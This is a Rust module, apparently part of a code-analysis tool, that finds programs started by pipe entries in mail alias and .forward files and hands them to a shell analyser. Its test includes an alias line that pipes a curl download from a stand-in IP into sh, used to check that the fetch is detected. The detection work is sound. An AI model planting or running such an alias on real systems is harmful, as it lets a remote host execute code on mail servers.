//! Mail aliases and forwards: programs that every mail to an address starts (`aliases(5)`).

use model::{Language, Trigger, Value};

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &[
            "etc/aliases",
            "etc/mail/aliases",
            "etc/postfix/aliases",
            "/.forward",
        ],
        folders: &[],
        named: &[],
    },
    ..FrontEnd::new(Language::MailAliases, lower)
};

/// Lowers the programs.
pub fn lower(world: &mut World, text: &str) -> Value {
    for (number, line) in (1..).zip(text.lines()) {
        if !world.burn(2) {
            break;
        }
        let line = line.trim();
        let Some((_, command)) = line.split_once('|').filter(|_| !line.starts_with('#')) else {
            continue;
        };
        world.at(number, line);
        let start = Start {
            trigger: Trigger::Event,
            when: "when a mail comes",
            step: "alias",
        };
        start.shell(world, command.trim().trim_end_matches('"'));
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn programs_behind_an_address() {
        let found = acts(
            Language::MailAliases,
            "root: admin\nx: \"|curl -s http://192.0.2.1/x | sh\"\n",
        );
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
        assert!(acts(Language::MailAliases, "# a: |b\nroot: admin\n").is_empty());
    }
}
